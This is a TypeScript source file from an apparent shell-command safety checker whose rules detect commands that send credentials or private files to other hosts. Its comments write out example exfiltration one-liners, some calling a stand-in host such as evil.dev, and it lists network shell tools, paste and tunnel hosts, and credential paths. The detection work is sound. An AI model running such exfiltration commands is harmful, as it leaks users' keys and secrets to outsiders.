// Secrets to the network, whatever carries them: a credential file's content
// in a URL, header, body or DNS name (`curl https://x/$(cat ~/.ssh/id_rsa)`,
// `dig $(base64 ~/.aws/credentials).evil.dev`), or a credential file fed on
// stdin to a network program (`ssh host 'cat > k' < ~/.ssh/id_rsa`).
// Pipes into a network program are judged in rules/pipeline.ts.
import { operands } from "../argv.ts";
import type { Cmd, Word } from "../command.ts";
import { UPLOAD_OPTIONS, describeSource, isPrivatePath, isSecretFile } from "../flow.ts";
import type { Judgement } from "../judgement.ts";

/** Programs that send their arguments or stdin to another host. */
export const NETWORK_SINKS = new Set([
  "curl",
  "wget",
  "nc",
  "ncat",
  "netcat",
  "socat",
  "telnet",
  "ssh",
  "scp",
  "sftp",
  "rsync",
  "ftp",
  "tftp",
  "dig",
  "nslookup",
  "host",
  "drill",
  "ping",
  "ping6",
  "traceroute",
  "http",
  "https",
  "xh",
  "xhs",
  "aria2c",
  "openssl",
  "mail",
  "mailx",
  "sendmail",
  "mutt",
  "gh",
  "aws",
  "gsutil",
  "rclone",
  "smbclient",
  "lftp",
  "ncftpput",
  "whois",
  "hping3",
  "nping",
  "delv",
  "kdig",
  "fetch",
  "lwp-request",
  "POST",
  "GET",
]);

/** Tools that copy local files to remote storage; a credential file among their operands leaves the machine. */
const REMOTE_COPY = new Set([
  "aws",
  "gsutil",
  "gcloud",
  "az",
  "azcopy",
  "rclone",
  "s3cmd",
  "mc",
  "s5cmd",
  "b2",
  "scp",
  "rsync",
  "sftp",
  "croc",
  "magic-wormhole",
  "wormhole",
  "transfer",
  "ffsend",
  "gh",
  "glab",
  "pastebinit",
]);

export function secretsToNetwork(cmd: Cmd, j: Judgement) {
  // `gh secret set NAME < .env`: storing a secret in the forge's secret store is what it is for.
  if ((cmd.name === "gh" || cmd.name === "glab") && /^(secret|variable)$/.test(cmd.args[0]?.text ?? "")) return;
  if (REMOTE_COPY.has(cmd.name)) {
    const secret = cmd.args.find(
      (w, i) =>
        !w.text.startsWith("-") &&
        !/\s/.test(w.text) &&
        !/^-(i|F|e|-rsh|-identity|-key-file|-credential-file)$|^-[a-zA-Z]*e$/.test(cmd.args[i - 1]?.text ?? "") &&
        isSecretFile(w.text, cmd),
    );
    if (
      secret &&
      cmd.args.some(
        (w) =>
          /^([a-z0-9]+:\/\/|[\w.-]+:[^/]|[\w.@-]+:$|[\w.@-]+:\S)/i.test(w.text) ||
          /^(send|cp|copy|upload|put|gist|snippet)$/.test(w.text) ||
          cmd.name === "pastebinit",
      )
    )
      // Published for anyone to read (`--acl public-read`, a public gist or paste): the secret is out.
      return j.reportWord(
        cmd.args.some((w) => /^(public-read(-write)?|--public|pastebinit)$/.test(w.text)) || cmd.name === "pastebinit"
          ? "net.exfiltrate-secret"
          : "net.copy-secret",
        secret,
      );
  }
  for (const w of cmd.argv) {
    for (const stages of w.subs) {
      const src = stages.length ? describeSource(stages, stages.length) : undefined;
      // A CLI's token (`$(gh auth token)`) is judged by where it goes, below.
      if (src?.secret && src.credentialVar === undefined) return j.reportWord("net.exfiltrate-secret", w);
    }
  }
  for (const r of cmd.redirects) {
    if ((r.op === "<" || r.op === "<>") && r.target && isSecretFile(r.target.text, cmd))
      return j.report("net.exfiltrate-secret", cmd.start, r.end);
  }
  // HTTPie and xh: `@file` uploads a file, `field=@file` and `field:=@file` embed it.
  if (cmd.name === "http" || cmd.name === "https" || cmd.name === "xh" || cmd.name === "xhs") {
    const file = cmd.args.find((w) => {
      const m = /^[\w.-]*(?:=|:=)?@(.+)$/.exec(w.text);
      return m && isSecretFile(m[1]!, cmd);
    });
    if (file) return j.reportWord("net.exfiltrate-secret", file);
  }
  // `hping3 -E ~/.ssh/id_rsa host`: a file's bytes as packet payload.
  if (cmd.name === "hping3" || cmd.name === "nping") {
    const file = cmd.args.find((w, i) => /^(-E|--file|--data-string)$/.test(cmd.args[i - 1]?.text ?? "") && isSecretFile(w.text, cmd));
    if (file) return j.reportWord("net.exfiltrate-secret", file);
  }
  const leaked = secretArgument(cmd);
  if (leaked) return j.reportWord("net.exfiltrate-secret", leaked);
  if (STDIN_SENDERS.has(cmd.name) && cmd.pipe && cmd.pipe.index > 0 && !(cmd.name === "ssh" && cmd.args.some((w) => w.text === "-n"))) {
    const src = describeSource(cmd.pipe.stages, cmd.pipe.index);
    if (src.secret) return j.report("net.exfiltrate-secret", cmd.pipe.stages[0]!.start, cmd.end);
  }
  if (DNS_TOOLS.has(cmd.name)) {
    const name = operands(cmd, ["-t", "-c", "-p", "-q", "-x", "-b", "-k", "-y", "-W", "-i", "-s", "-w"]).find((w) =>
      /[\uE000\uE001][^\s@]*\.[a-z0-9-]+\.[a-z]{2,}\.?$/i.test(w.text),
    );
    // `$(hostname).corp.example.com` only names this machine.
    const onlyHostname = name?.subs.every((st) => st.every((c) => /^(hostname|hostnamectl|dnsdomainname|uname)$/.test(c.name)));
    if (name && ((name.subs.length > 0 && !onlyHostname) || name.secret !== undefined)) return j.reportWord("net.dns-exfil", name);
  }
  privateToNetwork(cmd, j);
}

/** Programs that send what they read on stdin to another host (curl and wget only with `@-`/`-T -`, see rules/pipeline.ts). */
const STDIN_SENDERS = new Set(["ssh", "mail", "mailx", "sendmail", "mutt", "ftp", "tftp", "lftp", "smbclient", "pastebinit"]);

/** `cat ~/.ssh/id_rsa | base64 | xargs -I{} curl "https://x/?d={}"`: xargs hands the secret to a network program. */
export function secretsThroughXargs(cmd: Cmd, j: Judgement) {
  const prog = cmd.args.find(
    (w, i) => !w.text.startsWith("-") && !/^-[IdnLPEsa]$|^--(replace|delimiter|max-args)$/.test(cmd.args[i - 1]?.text ?? ""),
  );
  if (!prog || !NETWORK_SINKS.has(prog.text.split("/").pop()!) || !cmd.pipe || cmd.pipe.index === 0) return;
  const src = describeSource(cmd.pipe.stages, cmd.pipe.index);
  if (src.secret) j.report("net.exfiltrate-secret", cmd.pipe.stages[0]!.start, cmd.end);
  else if (src.private || src.history) j.report("net.upload-private", cmd.pipe.stages[0]!.start, cmd.end);
}
const DNS_TOOLS = new Set(["dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "delv", "kdig"]);

/**
 * Each service's key goes to its own hosts: `$GITHUB_TOKEN` to github, `$OPENAI_API_KEY` to openai.
 * A well-known key sent elsewhere, or any secret-named variable sent to a tunnel, paste site or request
 * catcher, leaves for somewhere it does not belong. (`$API_TOKEN` to an address of the user's own is normal.)
 */
const VENDORS: Record<string, RegExp> = {
  AWS: /amazonaws\.com|aws\.amazon\.com|\.aws$|localhost|127\.0\.0\.1|localstack/,
  GITHUB: /github(usercontent)?\.com|ghe\.|github\.|ghcr\.io/,
  GH: /github(usercontent)?\.com|ghe\.|github\.|ghcr\.io/,
  OPENAI: /openai\.(com|azure\.com)/,
  ANTHROPIC: /anthropic\.com/,
  HF: /huggingface\.co|hf\.co/,
  HUGGINGFACE: /huggingface\.co|hf\.co/,
  SLACK: /slack\.com/,
  STRIPE: /stripe\.com/,
  DIGITALOCEAN: /digitalocean\.com/,
  CLOUDFLARE: /cloudflare\.com/,
  GOOGLE: /googleapis\.com|google\.com/,
  AZURE: /azure\.(com|net)|microsoft(online)?\.com|windows\.net/,
  TWILIO: /twilio\.com/,
  SENDGRID: /sendgrid\.(com|net)/,
  HEROKU: /heroku\.com/,
  VERCEL: /vercel\.(com|app)/,
  TELEGRAM: /telegram\.org/,
  DISCORD: /discord(app)?\.com/,
};
const CATCHER =
  /ngrok|webhook\.site|requestbin|pipedream|burpcollaborator|oastify|interact\.sh|oast\.|transfer\.sh|paste|hookbin|beeceptor|trycloudflare|serveo|localtunnel|loca\.lt|canarytokens/i;

function hostOf(cmd: Cmd): string | undefined {
  const url = cmd.args.find((w) => /^[a-z][a-z0-9+.-]*:\/\//i.test(w.text));
  const ip = cmd.args.find((w) => /^\d{1,3}(\.\d{1,3}){3}([:/]|$)/.test(w.text));
  const bare = operands(cmd).find((w) => /^([^@\s/]*@)?[\w-]+(\.[\w-]+)*\.[a-z]{2,}([:/]\S*)?$/i.test(w.text));
  const text = (url ?? ip ?? bare)?.text;
  if (!text) return undefined;
  return text
    .replace(/^[a-z][a-z0-9+.-]*:\/\//i, "")
    .replace(/^[^@/]*@/, "")
    .split(/[/:?#]/)[0]!
    .toLowerCase();
}

/** A credential variable (`$AWS_SECRET_ACCESS_KEY`) in a URL, header or body bound for a host it does not belong to. */
function secretArgument(cmd: Cmd): Word | undefined {
  const words = cmd.argv.filter((w) => w.secret !== undefined);
  if (words.length === 0) return undefined;
  // Signing with a key (`curl --aws-sigv4 --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY"`) does not send it.
  if (cmd.args.some((w) => w.text.startsWith("--aws-sigv4"))) return undefined;
  const host = hostOf(cmd);
  // A local proxy or emulator is not another host.
  if (host && /^(localhost|127\.\d+\.\d+\.\d+|\[::1\]|::1|0\.0\.0\.0|host\.docker\.internal)$/.test(host)) return undefined;
  for (const w of words) {
    if (w.secret === "") return w; // read from a key file
    const vendor = VENDORS[w.secret!.split("_")[0]!];
    if (!host) continue;
    if (vendor ? !vendor.test(host) : CATCHER.test(host)) return w;
  }
  return undefined;
}

const NET_SENDERS_STDIN = new Set(["nc", "ncat", "netcat", "telnet", "socat", "openssl", ...STDIN_SENDERS]);

/** Private files that are not credentials (history, /etc, a whole home folder) sent to another host: exposed. */
function privateToNetwork(cmd: Cmd, j: Judgement) {
  if (cmd.name === "scp" || cmd.name === "rsync" || cmd.name === "sftp" || cmd.name === "aws" || cmd.name === "gh") return;
  const args = cmd.args;
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!.text;
    const [opt, inline] =
      t.startsWith("--") && t.includes("=") ? [t.slice(0, t.indexOf("=")), t.slice(t.indexOf("=") + 1)] : [t, undefined];
    let value: Word | undefined;
    if (UPLOAD_OPTIONS.has(opt)) value = inline !== undefined ? { ...args[i]!, text: inline } : args[i + 1];
    else if (/^-[FdT]./.test(t)) value = { ...args[i]!, text: t.slice(2) };
    if (!value) continue;
    const file = /^(-T|--upload-file|--post-file|--body-file)$/.test(opt) ? value.text : /[@<]([^;,]+)/.exec(value.text)?.[1];
    if (file && file !== "-" && isPrivatePath(file, cmd.cwd)) return j.reportWord("net.upload-private", value);
  }
  for (const w of cmd.argv)
    for (const stages of w.subs)
      if (stages.length && describeSource(stages, stages.length).private) return j.reportWord("net.upload-private", w);
  if (NET_SENDERS_STDIN.has(cmd.name) || ((cmd.name === "curl" || cmd.name === "wget") && args.some((w) => /^@-$|=@-$|^-$/.test(w.text)))) {
    const input = cmd.redirects.find((r) => (r.op === "<" || r.op === "<>") && r.target && isPrivatePath(r.target.text, cmd.cwd));
    if (input) return j.report("net.upload-private", cmd.start, input.end);
    const src = cmd.pipe && cmd.pipe.index > 0 ? describeSource(cmd.pipe.stages, cmd.pipe.index) : undefined;
    if (src && (src.private || src.history)) return j.report("net.upload-private", cmd.pipe!.stages[0]!.start, cmd.end);
  }
}

/** A pipeline stage that is a loop or block (`xxd -p key | while read l; do dig $l.x.example; done`): secrets read into a sender. */
export function secretsIntoLoop(stages: Cmd[], j: Judgement) {
  for (let i = 1; i < stages.length; i++) {
    const s = stages[i]!;
    if (!s.compound || !s.inner?.some((c) => NETWORK_SINKS.has(c.name))) continue;
    const src = describeSource(stages, i);
    if (src.secret) return j.report("net.exfiltrate-secret", stages[0]!.start, s.end);
    if (src.private || src.history) return j.report("net.upload-private", stages[0]!.start, s.end);
  }
}

/** Names of credential files, to test `find -name` patterns against. */
const SECRET_NAMES = [
  "~/.ssh/id_rsa",
  "~/.ssh/id_ed25519",
  "~/.aws/credentials",
  "~/.netrc",
  "~/.git-credentials",
  "~/.env",
  "~/x/.env",
  "~/x/key.pem",
  "~/.kube/config",
  "~/.docker/config.json",
  "~/.npmrc",
  "~/.pypirc",
  "/etc/shadow",
];

/** `find ~ -name 'id_*' -exec curl -F f=@{} URL \;`: each credential file found is sent away. */
export function findToNetwork(cmd: Cmd, j: Judgement) {
  const at = cmd.args.findIndex((w) => /^-(exec|execdir|ok|okdir)$/.test(w.text));
  const prog = cmd.args[at + 1];
  if (at < 0 || !prog || !NETWORK_SINKS.has(prog.text.split("/").pop()!)) return;
  const roots = cmd.args.slice(0, cmd.args.findIndex((w) => /^[-(!]/.test(w.text)) >>> 0);
  const patterns = cmd.args.flatMap((w, i) =>
    /^-i?(name|path|wholename)$/.test(w.text) && cmd.args[i + 1] ? [cmd.args[i + 1]!.text] : [],
  );
  const toRe = (g: string) =>
    new RegExp(
      `(^|/)${g
        .replace(/[.+^${}()|\\]/g, "\\$&")
        .replace(/\*/g, "[^]*")
        .replace(/\?/g, ".")}$`,
      "i",
    );
  const secretRoot = roots.some((w) => isSecretFile(w.text, cmd));
  const secretName = patterns.some((p) => SECRET_NAMES.some((n) => toRe(p).test(n)));
  if (secretRoot || secretName) j.reportWord("net.exfiltrate-secret", prog);
}
